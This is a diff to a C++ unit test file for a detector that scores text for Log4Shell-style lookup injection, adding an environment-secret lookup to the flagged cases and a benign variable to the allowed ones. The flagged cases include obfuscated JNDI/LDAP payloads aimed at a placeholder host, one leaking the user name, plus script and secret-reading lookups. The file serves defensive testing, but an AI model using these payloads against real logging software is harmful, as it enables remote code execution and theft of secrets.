@@ -20,13 +20,14 @@ TEST(Lookup, NamesAreReadFromTheInsideOut) {
         "${${::-j}${::-n}${::-d}${::-i}:ldap://host.example}",
         "${${env:NOTHING:-j}ndi:ldap://host.example/${sys:user.name}}",
         "x ${j${lower:n}d${upper:i}:ldap://host.example", "${script:javascript:1+1}",
-        "${url:UTF-8:http://host.example/}"}) {
+        "${url:UTF-8:http://host.example/}", "${env:AWS_SECRET}"}) {
     EXPECT_GE(points(text), kThreshold) << text;
   }
 }
 TEST(Lookup, VariablesOfShellsAndTemplates) {
-  for (const std::string_view text : {"${HOME}", "${HOME:-/root}", "${a:-${b:-c}}", "${name}",
-                                      "costs ${amount} a month", "${", "${${${", "}}}}", "${date:yyyy}", "jndi:ldap"}) {
+  for (const std::string_view text :
+       {"${HOME}", "${HOME:-/root}", "${a:-${b:-c}}", "${name}", "costs ${amount} a month", "name: ${env:USER}", "${",
+        "${${${", "}}}}", "${date:yyyy}", "jndi:ldap"}) {
     EXPECT_LT(points(text), kThreshold) << text;
   }
 }
